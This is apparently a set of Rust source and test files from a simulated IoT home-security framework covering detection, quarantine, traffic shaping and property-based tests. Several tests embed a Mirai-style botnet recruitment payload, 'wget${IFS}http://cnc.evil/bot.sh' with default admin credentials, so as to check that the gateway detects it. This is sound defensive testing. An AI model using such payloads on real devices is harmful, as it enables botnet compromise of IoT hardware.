    /// Packets the gateway dropped (quarantine / NAC / vetting).
    pub dropped_packets: u64,
    /// Behaviour feature vector of the home's traffic trace (see
    /// [`xlf_analytics::features::window_features`]).
    pub features: Vec<f64>,
}

/// Cumulative, **side-effect-free** counters read from a live home
/// mid-run. Unlike [`HomeRunner::report`] this never drains the evidence
/// bus and never fuses verdicts, so probing between simulation slices
/// cannot perturb bounded-bus shed patterns or correlation state — a
/// probed (streamed) run stays byte-identical to an unprobed (batch) run
/// of the same home. Windowed deltas are two probes subtracted.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct HomeProbe {
    /// Evidence records aggregated into the Core's store so far.
    pub evidence_total: usize,
    /// Aggregated evidence per layer: `[device, network, service]`.
    pub evidence_by_layer: [usize; 3],
    /// Warning-or-higher alerts raised so far.
    pub warning_alerts: usize,
    /// Critical alerts raised so far.
    pub critical_alerts: usize,
    /// Packets the gateway has forwarded so far.
    pub forwarded: u64,
    /// Packets the gateway has dropped so far.
    pub dropped_packets: u64,
    /// Wire bytes observed by the runner's tap so far.
    pub wire_bytes: u64,
    /// Packets observed by the runner's tap so far.
    pub packets: u64,
}

/// A reusable run handle over one [`XlfHome`]: owns the home, a traffic
/// tap, and the stepping/summary logic the multi-home experiments and
/// the fleet engine previously wired up ad hoc. Not `Send` (the home's
/// Core is `Rc`-shared) — build and drive it on one thread, then ship
/// the [`HomeReport`] across threads.
pub struct HomeRunner {
    home: XlfHome,
    records: Rc<RefCell<Vec<xlf_simnet::observer::PacketRecord>>>,
    probe_cursor: RefCell<ProbeCursor>,
}

/// Incremental probe counters. The evidence store and the tap's record
/// log are both append-only, so each probe folds in only the entries
/// added since the previous probe instead of rescanning from the start —
/// at a 15 s probe cadence the per-epoch cost is proportional to the
/// epoch's traffic, not the run's. Interior-mutable cache only:
/// [`HomeRunner::probe`] still performs no simulation side effects.
#[derive(Debug, Default)]
struct ProbeCursor {
    evidence_seen: usize,
    by_layer: [usize; 3],
    records_seen: usize,
    wire_bytes: u64,
    packets: u64,
}

impl std::fmt::Debug for HomeRunner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("HomeRunner")
            .field("devices", &self.home.devices.len())
            .field("records", &self.records.borrow().len())
            .finish_non_exhaustive()
    }
}

impl HomeRunner {
    /// Wraps `home`, installing the recording tap its behaviour features
    /// come from. Install before running: features cover the whole run.
    pub fn new(mut home: XlfHome) -> Self {
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        HomeRunner {
            home,
            records,
            probe_cursor: RefCell::new(ProbeCursor::default()),
        }
    }

    /// Builds a fresh home from a spec and wraps it.
    pub fn build(seed: u64, config: XlfConfig, devices: &[HomeDevice]) -> Self {
        Self::new(XlfHome::build(seed, config, devices))
    }

    /// The wrapped home (e.g. to add attacker nodes before running).
    pub fn home_mut(&mut self) -> &mut XlfHome {
        &mut self.home
    }

    /// The wrapped home, read-only.
    pub fn home(&self) -> &XlfHome {
        &self.home
    }

    /// Steps the simulation to `t`.
    pub fn run_until(&mut self, t: SimTime) {
        self.home.net.run_until(t);
    }

    /// Steps the simulation to `t`, processing at most `budget` events.
    /// Returns `(events_processed, truncated)`; a truncated home keeps
    /// whatever evidence it drained so far and can still be summarized
    /// via [`HomeRunner::finish`] — the fleet tier's degraded mode.
    pub fn run_until_capped(&mut self, t: SimTime, budget: u64) -> (u64, bool) {
        self.home.net.run_until_capped(t, budget)
    }

    /// Reads the cumulative side-effect-free counters (see
    /// [`HomeProbe`]). Safe to call at any point mid-run, any number of
    /// times: it only reads — no drains, no verdict fusion — so it can
    /// never change what the simulation or the final report would do.
    pub fn probe(&self) -> HomeProbe {
        let core = self.home.core.borrow();
        let mut cursor = self.probe_cursor.borrow_mut();
        let evidence = core.store.all();
        for e in &evidence[cursor.evidence_seen..] {
            let idx = match e.layer {
                crate::evidence::Layer::Device => 0,
                crate::evidence::Layer::Network => 1,
                crate::evidence::Layer::Service => 2,
            };
            cursor.by_layer[idx] += 1;
        }
        cursor.evidence_seen = evidence.len();
        let records = self.records.borrow();
        for r in &records[cursor.records_seen..] {
            cursor.wire_bytes += r.wire_size as u64;
            cursor.packets += 1;
        }
        cursor.records_seen = records.len();
        let gateway = self.home.gateway_ref();
        HomeProbe {
            evidence_total: core.store.len(),
            evidence_by_layer: cursor.by_layer,
            warning_alerts: core.alerts.count_at_least(Severity::Warning),
            critical_alerts: core.alerts.count_at_least(Severity::Critical),
            forwarded: gateway.forwarded,
            dropped_packets: gateway.dropped,
            wire_bytes: cursor.wire_bytes,
            packets: cursor.packets,
        }
    }

    /// Finishes the run at `now`: one final Core evaluation sweep (so
    /// late evidence is fused), then the summary a fleet tier consumes.
    pub fn finish(self, now: SimTime) -> HomeReport {
        self.home.core.borrow_mut().evaluate(now);
        self.report(now)
    }

    /// Summarizes the run so far without consuming the runner (no final
    /// evaluation sweep; call [`XlfCore::evaluate`] yourself if needed).
    pub fn report(&self, now: SimTime) -> HomeReport {
        let core = self.home.core.borrow();
        let mut by_layer = [0usize; 3];
        for e in core.store.all() {
            let idx = match e.layer {
                crate::evidence::Layer::Device => 0,
                crate::evidence::Layer::Network => 1,
                crate::evidence::Layer::Service => 2,
            };
            by_layer[idx] += 1;
        }
        drop(core);

        // Fused verdict per device; the most suspicious one is the
        // home's headline. Iteration is in BTreeMap (name) order, ties
        // keep the first name — deterministic.
        let mut top_device = String::new();
        let mut top_score = 0.0f64;
        let device_names: Vec<String> = self.home.devices.keys().cloned().collect();
        for name in &device_names {
            let verdict = self.home.core.borrow_mut().verdict_for(name, now);
            if verdict.score > top_score || top_device.is_empty() {
                top_score = verdict.score;
                top_device = name.clone();
            }
        }

        let gateway = self.home.gateway_ref();
        let quarantined: Vec<String> = device_names
            .iter()
            .filter(|name| gateway.nac.is_quarantined(name))
            .cloned()
            .collect();

        let cloud = self.home.cloud;
        let samples: Vec<(f64, usize, bool)> = self
            .records
            .borrow()
            .iter()
            .map(|r| (r.at.as_secs_f64(), r.wire_size, r.dst == cloud))
            .collect();
        let features = xlf_analytics::features::window_features(&samples).to_vec();

        let core = self.home.core.borrow();
        HomeReport {
            seed: self.home.net.seed(),
            evidence_total: core.store.len(),
            evidence_dropped: core.bus.dropped(),
            evidence_shed: core.bus.shed(),
            evidence_by_layer: by_layer,
            warning_alerts: core.alerts.at_least(Severity::Warning).len(),
            critical_alerts: core.alerts.at_least(Severity::Critical).len(),
            quarantined,
            top_device,
            top_score,
            forwarded: gateway.forwarded,
            dropped_packets: gateway.dropped,
            features,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use xlf_device::Vulnerability;

    fn basic_home(config: XlfConfig) -> XlfHome {
        XlfHome::build(
            7,
            config,
            &[
                HomeDevice::new("thermo", SensorKind::Temperature)
                    .with_telemetry_period(Duration::from_secs(10)),
                HomeDevice::new("cam", SensorKind::Camera)
                    .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword]))
                    .with_telemetry_period(Duration::from_secs(10)),
            ],
        )
    }

    #[test]
    fn benign_home_stays_quiet_under_full_xlf() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(600));
        let core = home.core.borrow();
        assert!(
            core.alerts.at_least(Severity::Critical).is_empty(),
            "benign traffic must not trigger critical alerts: {:?}",
            core.alerts.alerts()
        );
        assert!(home.gateway_ref().forwarded > 50, "telemetry must flow");
    }

    #[test]
    fn telemetry_reaches_the_cloud_through_the_gateway() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(120));
        let cloud = home.net.node_as::<CloudNode>(home.cloud).unwrap().cloud();
        let thermo = cloud.handlers.get("thermo").unwrap();
        assert!(thermo.value("temperature").is_some());
    }

    #[test]
    fn botnet_recruitment_is_detected_and_quarantined() {
        let mut home = basic_home(XlfConfig::full());
        // Let monitors learn the benign baseline.
        home.net.run_until(SimTime::from_secs(180));

        // Attacker on the WAN recruits the weak camera through the
        // gateway: login with default creds carrying a C&C bootstrap.
        struct Recruiter {
            gateway: NodeId,
        }
        impl Node for Recruiter {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send(self.gateway, login);
            }
        }
        let attacker = home.net.add_node(Box::new(Recruiter {
            gateway: home.gateway,
        }));
        home.net
            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
        home.net.run_until(SimTime::from_secs(400));

        let core = home.core.borrow();
        // DPI must have seen the C&C string; the DFA must have seen the
        // compromise transition; correlation must have escalated.
        assert!(
            core.alerts.has_alert("cam", Severity::Warning),
            "alerts: {:?}, evidence: {}",
            core.alerts.alerts(),
            core.store.len()
        );
        drop(core);
        assert!(
            home.gateway_ref().nac.is_quarantined("cam")
                || home
                    .core
                    .borrow()
                    .alerts
                    .has_alert("cam", Severity::Critical),
            "camera should be quarantined or critically flagged"
        );
    }

    #[test]
    fn gateway_batch_inspection_flags_malicious_payloads() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(5));
        let gateway = home.net.node_as_mut::<XlfGateway>(home.gateway).unwrap();
        let payloads: Vec<&[u8]> = vec![
            b"benign telemetry",
            b"wget${IFS}http://cnc.evil/bot.sh",
            b"",
            b"/bin/busybox MIRAI",
        ];
        let flags = gateway.inspect_batch("cam", &payloads, SimTime::from_secs(5));
        assert_eq!(flags, vec![false, true, false, true]);
    }

    #[test]
    fn quarantined_devices_cannot_flood() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(130));
        // Quarantine the camera manually (as policy would).
        home.net
            .node_as_mut::<XlfGateway>(home.gateway)
            .unwrap()
            .nac
            .quarantine("cam");
        let before = home.net.stats().delivered;
        home.net.run_until(SimTime::from_secs(200));
        // Camera telemetry is now dropped at the gateway; only thermo
        // traffic flows to the cloud.
        let gateway = home.gateway_ref();
        assert!(gateway.dropped > 0, "quarantine must drop packets");
        let _ = before;
    }

    #[test]
    fn off_config_forwards_everything_blindly() {
        let mut home = basic_home(XlfConfig::off());
        home.net.run_until(SimTime::from_secs(300));
        let gateway = home.gateway_ref();
        assert_eq!(gateway.dropped, 0);
        assert!(home.core.borrow().store.is_empty());
    }

    #[test]
    fn correlation_results_steer_token_lifetimes() {
        // Benign home: calm lifetime.
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(200));
        assert_eq!(
            home.gateway_ref().auth_proxy.token_lifetime,
            Duration::from_secs(3600)
        );
        // Compromise the camera: the next evaluation shortens tokens.
        struct Recruiter {
            gateway: NodeId,
        }
        impl Node for Recruiter {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                let login = Packet::new(
                    ctx.id(),
                    self.gateway,
                    "login",
                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
                )
                .with_meta("device", "cam")
                .with_meta("user", "admin")
                .with_meta("pass", "admin");
                ctx.send(self.gateway, login);
            }
        }
        let attacker = home.net.add_node(Box::new(Recruiter {
            gateway: home.gateway,
        }));
        home.net
            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
        home.net.run_until(SimTime::from_secs(300));
        assert_eq!(
            home.gateway_ref().auth_proxy.token_lifetime,
            Duration::from_secs(300),
            "suspicion must shorten token lifetimes (§IV-A1)"
        );
    }

    #[test]
    fn home_runner_report_summarizes_a_benign_run() {
        let mut runner = HomeRunner::new(basic_home(XlfConfig::full()));
        runner.run_until(SimTime::from_secs(300));
        let report = runner.finish(SimTime::from_secs(300));
        assert_eq!(report.seed, 7);
        assert_eq!(report.critical_alerts, 0);
        assert!(report.quarantined.is_empty());
        assert!(report.forwarded > 50, "telemetry must flow");
        assert!(report.features[0] > 0.0, "tap must have seen traffic");
        assert_eq!(report.evidence_dropped, 0);
        assert_eq!(report.evidence_shed, 0);
    }

    #[test]
    fn bounded_evidence_capacity_reaches_the_home_core_bus() {
        let config = XlfConfig::full().with_evidence_capacity(Some(16));
        let home = basic_home(config);
        assert_eq!(home.core.borrow().bus.capacity(), Some(16));
        // The unbounded default is preserved.
        let home = basic_home(XlfConfig::full());
        assert_eq!(home.core.borrow().bus.capacity(), None);
    }

    #[test]
    fn a_tightly_bounded_home_still_runs_and_accounts_its_sheds() {
        // Capacity 1: all but the newest queued observation between Core
        // evaluations is shed; the run completes and the loss is
        // accounted, not silent.
        let config = XlfConfig::full().with_evidence_capacity(Some(1));
        let mut runner = HomeRunner::new(basic_home(config));
        runner.run_until(SimTime::from_secs(300));
        let report = runner.finish(SimTime::from_secs(300));
        assert_eq!(report.evidence_shed, report.evidence_dropped);
        assert!(report.forwarded > 50, "telemetry must still flow");
    }

    #[test]
    fn home_runner_reports_are_deterministic() {
        let run = || {
            let mut runner = HomeRunner::new(basic_home(XlfConfig::full()));
            runner.run_until(SimTime::from_secs(300));
            runner.finish(SimTime::from_secs(300))
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn constant_rate_mode_emits_cover_traffic_for_silent_devices() {
        let mut config = XlfConfig::full();
        config.shaping = crate::shaping::ShapingMode::ConstantRate {
            bucket: 1024,
            max_delay: Duration::from_millis(10),
            cover_interval: Duration::from_secs(5),
        };
        // A very quiet device: telemetry every 10 minutes.
        let mut home = XlfHome::build(
            5,
            config,
            &[HomeDevice::new("quiet-sensor", SensorKind::Temperature)
                .with_telemetry_period(Duration::from_secs(600))],
        );
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        home.net.run_until(SimTime::from_secs(120));
        let covers = records
            .borrow()
            .iter()
            .filter(|r| r.src == home.gateway && r.dst == home.cloud && r.wire_size == 1024)
            .count();
        assert!(
            covers >= 15,
            "silent flows must be covered (~1 per 5 s): got {covers}"
        );
        assert!(home.gateway_ref().shaping_cost().cover_packets > 0);
    }

    #[test]
    fn shaping_pads_upstream_traffic() {
        let mut config = XlfConfig::full();
        config.shaping = ShapingMode::PadOnly { bucket: 1024 };
        let mut home = basic_home(config);
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        home.net.run_until(SimTime::from_secs(120));
        // Gateway→cloud telemetry must all be padded to the bucket.
        let padded: Vec<_> = records
            .borrow()
            .iter()
            .filter(|r| r.src == home.gateway && r.dst == home.cloud)
            .map(|r| r.wire_size)
            .collect();
        assert!(!padded.is_empty());
        assert!(padded.iter().all(|&s| s % 1024 == 0), "sizes: {padded:?}");
        assert!(home.gateway_ref().shaping_cost().padding_bytes > 0);
    }
}
