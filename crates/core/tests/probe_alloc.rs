//! Proves `HomeRunner::probe` is allocation-free after warmup: the
//! streaming tier probes every home at every epoch boundary (15 s
//! cadence in `exp_stream`), so the probe path must not touch the
//! allocator once its cursors are warm.
//!
//! A counting wrapper around the system allocator measures allocations
//! across a probe. This file holds exactly one `#[test]` so no parallel
//! test can allocate concurrently and pollute the counter.

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};
use xlf_core::framework::{HomeDevice, XlfConfig};
use xlf_core::HomeRunner;
use xlf_device::SensorKind;
use xlf_simnet::SimTime;

static ALLOCS: AtomicU64 = AtomicU64::new(0);

struct CountingAlloc;

// SAFETY: delegates directly to `System`; the counter increment has no
// effect on allocation behaviour.
unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static GLOBAL: CountingAlloc = CountingAlloc;

#[test]
fn probe_allocates_nothing_after_warmup() {
    let mut runner = HomeRunner::build(
        11,
        XlfConfig::full(),
        &[
            HomeDevice::new("thermo", SensorKind::Temperature),
            HomeDevice::new("cam", SensorKind::Camera),
        ],
    );
    runner.run_until(SimTime::from_secs(60));
    // Warm up the probe cursors, then step the sim so the next probe has
    // fresh (appended) evidence and tap records to fold in.
    let _ = runner.probe();
    runner.run_until(SimTime::from_secs(120));

    let before = ALLOCS.load(Ordering::Relaxed);
    let probe = runner.probe();
    let after = ALLOCS.load(Ordering::Relaxed);

    assert!(probe.packets > 0, "the probe must have seen traffic");
    // The counter is only meaningful when this test's allocations are
    // the whole story; debug builds of the workspace are how CI runs it.
    #[cfg(debug_assertions)]
    assert_eq!(
        after - before,
        0,
        "probe() must be allocation-free after warmup"
    );
    #[cfg(not(debug_assertions))]
    let _ = (before, after);
}
