//! Property-based tests over the XLF Core: correlation-score invariants,
//! shaping cost laws, and token-service behaviour under arbitrary inputs.

use proptest::prelude::*;
use xlf_core::correlation::{CorrelationConfig, CorrelationEngine};
use xlf_core::evidence::{Evidence, EvidenceKind, EvidenceStore, Layer};
use xlf_core::shaping::{ShapingMode, TrafficShaper};
use xlf_simnet::{Duration, SimTime};

fn kinds() -> impl Strategy<Value = EvidenceKind> {
    prop::sample::select(vec![
        EvidenceKind::AuthFailure,
        EvidenceKind::DpiMatch,
        EvidenceKind::TrafficAnomaly,
        EvidenceKind::DfaViolation,
        EvidenceKind::ActionDenied,
        EvidenceKind::FirmwareRejected,
        EvidenceKind::TelemetryAnomaly,
        EvidenceKind::StateTransition, // benign
        EvidenceKind::AuthSuccess,     // benign
    ])
}

fn layers() -> impl Strategy<Value = Layer> {
    prop::sample::select(vec![Layer::Device, Layer::Network, Layer::Service])
}

fn store_from(items: &[(Layer, EvidenceKind, f64)]) -> EvidenceStore {
    let mut store = EvidenceStore::new();
    for (layer, kind, weight) in items {
        store.push(Evidence::new(
            SimTime::from_secs(10),
            *layer,
            "dev",
            *kind,
            *weight,
            "prop",
        ));
    }
    store
}

proptest! {
    /// Scores always land in [0, 1], for any evidence mix.
    #[test]
    fn scores_are_bounded(items in prop::collection::vec(
        (layers(), kinds(), 0.0f64..1.0), 0..32)) {
        let store = store_from(&items);
        let engine = CorrelationEngine::new(CorrelationConfig::default());
        let v = engine.evaluate_device(&store, "dev", SimTime::from_secs(20));
        prop_assert!((0.0..=1.0).contains(&v.score), "score {}", v.score);
    }

    /// Adding suspicious evidence never lowers the score (monotonicity).
    #[test]
    fn more_evidence_never_helps_the_attacker(
        items in prop::collection::vec((layers(), kinds(), 0.1f64..1.0), 0..16),
        extra_layer in layers(),
        extra_weight in 0.1f64..1.0,
    ) {
        let engine = CorrelationEngine::new(CorrelationConfig::default());
        let now = SimTime::from_secs(20);
        let base = engine.evaluate_device(&store_from(&items), "dev", now).score;
        let mut more = items.clone();
        more.push((extra_layer, EvidenceKind::DpiMatch, extra_weight));
        let grown = engine.evaluate_device(&store_from(&more), "dev", now).score;
        prop_assert!(grown >= base - 1e-12, "score dropped: {base} -> {grown}");
    }

    /// The fused (all-layer) score is at least every single-layer score.
    #[test]
    fn fusion_dominates_single_layers(items in prop::collection::vec(
        (layers(), kinds(), 0.0f64..1.0), 0..24)) {
        let store = store_from(&items);
        let now = SimTime::from_secs(20);
        let fused = CorrelationEngine::new(CorrelationConfig::default())
            .evaluate_device(&store, "dev", now)
            .score;
        for layer in [Layer::Device, Layer::Network, Layer::Service] {
            let single = CorrelationEngine::new(CorrelationConfig {
                only_layer: Some(layer),
                ..Default::default()
            })
            .evaluate_device(&store, "dev", now)
            .score;
            prop_assert!(fused >= single - 1e-12);
        }
    }

    /// Purely benign evidence always scores exactly zero.
    #[test]
    fn benign_evidence_scores_zero(n in 0usize..32, layer in layers()) {
        let items: Vec<_> = (0..n)
            .map(|i| (layer, if i % 2 == 0 {
                EvidenceKind::StateTransition
            } else {
                EvidenceKind::AuthSuccess
            }, 1.0))
            .collect();
        let engine = CorrelationEngine::new(CorrelationConfig::default());
        let v = engine.evaluate_device(&store_from(&items), "dev", SimTime::from_secs(20));
        prop_assert_eq!(v.score, 0.0);
    }

    /// Shaping invariants: the padded size is never smaller, is
    /// bucket-aligned, and the delay respects the mode's bound; the cost
    /// ledger adds up.
    #[test]
    fn shaping_invariants(sizes in prop::collection::vec(1usize..2000, 1..64),
                          bucket in 1usize..2048,
                          max_delay_ms in 0u64..2000) {
        let mut shaper = TrafficShaper::new(
            ShapingMode::PadAndDelay {
                bucket,
                max_delay: Duration::from_millis(max_delay_ms),
            },
            9,
        );
        let mut expected_padding = 0u64;
        for &size in &sizes {
            let d = shaper.shape(size);
            prop_assert!(d.padded_size >= size);
            prop_assert_eq!(d.padded_size % bucket, 0);
            prop_assert!(d.delay <= Duration::from_millis(max_delay_ms));
            expected_padding += (d.padded_size - size) as u64;
        }
        prop_assert_eq!(shaper.cost.packets as usize, sizes.len());
        prop_assert_eq!(shaper.cost.padding_bytes, expected_padding);
        prop_assert!(shaper.cost.overhead_ratio() >= 0.0);
    }

    /// Alert dedup: raising the same alert twice within the window always
    /// suppresses the second, at any severity.
    #[test]
    fn alert_dedup_window(gap_s in 0u64..200) {
        use xlf_core::alerts::{Alert, AlertSink, Severity};
        let mut sink = AlertSink::new();
        let mk = |at| Alert {
            at: SimTime::from_secs(at),
            device: "d".to_string(),
            severity: Severity::Warning,
            score: 0.5,
            explanation: String::new(),
        };
        prop_assert!(sink.raise(mk(0)));
        let second = sink.raise(mk(gap_s));
        prop_assert_eq!(second, gap_s > 60, "gap {}", gap_s);
    }

    /// Bounded-bus conservation: for any interleaving of reports and
    /// (bounded) drains at any capacity, every reported observation is
    /// either drained into the store, still pending, or accounted as
    /// shed — nothing is lost silently, and drains never exceed the
    /// capacity in flight.
    #[test]
    fn bounded_bus_conserves_observations(
        cap in 1usize..24,
        ops in prop::collection::vec((0usize..5, 1usize..16), 1..64),
    ) {
        use xlf_core::bus::EvidenceBus;
        use xlf_core::evidence::{Evidence, EvidenceStore};

        let (bus, drain) = EvidenceBus::bounded(cap);
        let bus2 = bus.clone();
        let mut store = EvidenceStore::new();
        let mut reported = 0u64;
        let mut drained = 0u64;
        for (op, n) in ops {
            match op {
                // Report n observations, alternating handles.
                0..=2 => {
                    for i in 0..n {
                        let handle = if i % 2 == 0 { &bus } else { &bus2 };
                        handle.report(Evidence::new(
                            SimTime::ZERO,
                            Layer::Network,
                            "dev",
                            EvidenceKind::DpiMatch,
                            0.5,
                            "prop",
                        ));
                        reported += 1;
                    }
                }
                // Bounded drain of at most n.
                3 => drained += drain.drain_up_to(&mut store, n) as u64,
                // Full drain.
                _ => drained += drain.drain_into(&mut store) as u64,
            }
            prop_assert!(drain.pending() <= cap, "pending exceeds capacity");
            prop_assert_eq!(
                drained + drain.pending() as u64 + bus.shed(),
                reported,
                "drained {} + pending {} + shed {} != reported {}",
                drained, drain.pending(), bus.shed(), reported
            );
            // No disconnect happened, so every loss is an overload shed.
            prop_assert_eq!(bus.dropped(), bus.shed());
        }
        drained += drain.drain_into(&mut store) as u64;
        prop_assert_eq!(drained + bus2.shed(), reported);
        prop_assert_eq!(store.len() as u64, drained);
    }
}
