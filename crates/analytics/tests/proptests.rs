//! Property-based tests over the learning substrates: metric axioms,
//! permutation invariants, and detector sanity under arbitrary inputs.

use proptest::prelude::*;
use xlf_analytics::dfa::Dfa;
use xlf_analytics::features::window_features;
use xlf_analytics::fingerprint::{levenshtein, normalized_distance};
use xlf_analytics::graph::{
    deviation_scores, label_propagation, similarity_graph, similarity_graph_naive,
};
use xlf_analytics::kernel::{center, Kernel};
use xlf_analytics::timeseries::EwmaDetector;

fn seqs() -> impl Strategy<Value = Vec<i64>> {
    prop::collection::vec(0i64..2000, 0..24)
}

proptest! {
    /// Levenshtein is a metric (slack 0): identity, symmetry, triangle
    /// inequality.
    #[test]
    fn levenshtein_is_a_metric(a in seqs(), b in seqs(), c in seqs()) {
        prop_assert_eq!(levenshtein(&a, &a, 0), 0);
        prop_assert_eq!(levenshtein(&a, &b, 0), levenshtein(&b, &a, 0));
        let ab = levenshtein(&a, &b, 0);
        let bc = levenshtein(&b, &c, 0);
        let ac = levenshtein(&a, &c, 0);
        prop_assert!(ac <= ab + bc, "triangle violated: {ac} > {ab}+{bc}");
    }

    /// Distance is bounded by the longer sequence; normalized distance is
    /// in [0, 1].
    #[test]
    fn levenshtein_bounds(a in seqs(), b in seqs(), slack in 0i64..16) {
        let d = levenshtein(&a, &b, slack);
        prop_assert!(d <= a.len().max(b.len()));
        let nd = normalized_distance(&a, &b, slack);
        prop_assert!((0.0..=1.0).contains(&nd));
    }

    /// More slack never increases the distance.
    #[test]
    fn slack_is_monotone(a in seqs(), b in seqs(), s1 in 0i64..8, extra in 0i64..8) {
        prop_assert!(levenshtein(&a, &b, s1 + extra) <= levenshtein(&a, &b, s1));
    }

    /// Kernels: symmetry and (for RBF) boundedness in (0, 1].
    #[test]
    fn kernel_axioms(x in prop::collection::vec(-100.0f64..100.0, 1..8),
                     y in prop::collection::vec(-100.0f64..100.0, 1..8),
                     gamma in 0.001f64..2.0) {
        let n = x.len().min(y.len());
        let (x, y) = (&x[..n], &y[..n]);
        for k in [Kernel::Linear, Kernel::Rbf { gamma }] {
            prop_assert!((k.eval(x, y) - k.eval(y, x)).abs() < 1e-9);
        }
        let r = Kernel::Rbf { gamma }.eval(x, y);
        // exp underflows to exactly 0.0 for distant points — that is fine.
        prop_assert!((0.0..=1.0 + 1e-12).contains(&r));
    }

    /// Centering always zeroes the row sums of any Gram matrix.
    #[test]
    fn centering_zeroes_rows(data in prop::collection::vec(
        prop::collection::vec(-10.0f64..10.0, 3..3+1), 2..10)) {
        let g = Kernel::Linear.gram(&data);
        for row in center(&g) {
            prop_assert!(row.iter().sum::<f64>().abs() < 1e-6);
        }
    }

    /// The DFA never flags a transition it was trained on (min support 1).
    #[test]
    fn dfa_accepts_its_training_set(
        trace in prop::collection::vec(("[a-c]", "[x-z]", "[a-c]"), 1..32)
    ) {
        let trace: Vec<(String, String, String)> = trace;
        let mut dfa = Dfa::new();
        dfa.train(&trace);
        // Re-check only the transitions whose (state, symbol) kept their
        // final successor (determinism resolution keeps the majority).
        for (s, sym, n) in &trace {
            let verdict = dfa.check(s, sym, n);
            if verdict.is_anomalous() {
                // Permitted only when training itself was contradictory.
                let conflicting = trace.iter()
                    .filter(|(s2, sym2, n2)| s2 == s && sym2 == sym && n2 != n)
                    .count();
                prop_assert!(conflicting > 0, "clean transition flagged");
            }
        }
    }

    /// EWMA never alarms during warm-up and never panics on any stream.
    #[test]
    fn ewma_warmup_and_totality(values in prop::collection::vec(-1e6f64..1e6, 1..64),
                                warmup in 1u64..32) {
        let mut d = EwmaDetector::new(0.3, 4.0);
        d.warmup = warmup;
        for (i, &v) in values.iter().enumerate() {
            let alarm = d.observe(v);
            if (i as u64) < warmup {
                prop_assert!(!alarm, "alarm during warm-up at {i}");
            }
        }
    }

    /// Feature windows: counts and byte totals always agree with input.
    #[test]
    fn feature_window_consistency(samples in prop::collection::vec(
        (0.0f64..1e4, 1usize..2000, any::<bool>()), 0..64)) {
        let w = window_features(&samples);
        prop_assert_eq!(w.count, samples.len());
        let bytes: usize = samples.iter().map(|&(_, s, _)| s).sum();
        prop_assert!((w.bytes - bytes as f64).abs() < 1e-6);
        prop_assert!((0.0..=1.0).contains(&w.upstream_fraction));
        prop_assert!(w.std_size >= 0.0);
    }

    /// Label propagation: every label is a valid node index and the
    /// result is deterministic.
    #[test]
    fn label_propagation_wellformed(features in prop::collection::vec(
        prop::collection::vec(-5.0f64..5.0, 2..2+1), 2..12)) {
        let adj = similarity_graph(&features, 2, 1.0);
        let labels = label_propagation(&adj, 50);
        prop_assert_eq!(labels.len(), features.len());
        for &l in &labels {
            prop_assert!(l < features.len());
        }
        prop_assert_eq!(labels.clone(), label_propagation(&adj, 50));
        let scores = deviation_scores(&adj, &labels);
        for s in scores {
            prop_assert!((0.0..=1.0).contains(&s) || s.abs() < 1e-9);
        }
    }

    /// The blocked SoA similarity sweep is *bit-identical* to the
    /// retained naive per-pair path: same shared dot product, same
    /// `‖x‖² + ‖y‖² − 2x·y` decomposition, same neighbour order — so
    /// every edge weight matches with `==`, not a tolerance.
    #[test]
    fn blocked_similarity_bit_equals_naive(
        features in prop::collection::vec(
            prop::collection::vec(-50.0f64..50.0, 1..9), 1..40)
            .prop_map(|rows| {
                // Equalize row lengths (ragged input is rejected by the
                // SoA matrix): truncate to the shortest.
                let dims = rows.iter().map(Vec::len).min().unwrap_or(0);
                rows.into_iter().map(|mut r| { r.truncate(dims); r }).collect::<Vec<_>>()
            }),
        k in 1usize..8,
        gamma in 0.001f64..4.0,
    ) {
        let blocked = similarity_graph(&features, k, gamma);
        let naive = similarity_graph_naive(&features, k, gamma);
        prop_assert_eq!(blocked.len(), naive.len());
        for (i, (b, n)) in blocked.iter().zip(&naive).enumerate() {
            prop_assert_eq!(b.len(), n.len(), "node {} degree differs", i);
            for (eb, en) in b.iter().zip(n) {
                prop_assert_eq!(eb.0, en.0, "node {} neighbour differs", i);
                prop_assert!(
                    eb.1 == en.1 && eb.1.to_bits() == en.1.to_bits(),
                    "node {} edge ({}, {}) weight differs bitwise: {:x} vs {:x}",
                    i, eb.0, en.0, eb.1.to_bits(), en.1.to_bits()
                );
            }
        }
    }
}

use xlf_analytics::multipattern::{naive_first_per_pattern, AcAutomaton};

/// Pattern sets over a tiny alphabet so overlaps, nestings, duplicates,
/// and empty patterns all occur; haystacks over the same alphabet.
fn ac_patterns() -> impl Strategy<Value = Vec<Vec<u8>>> {
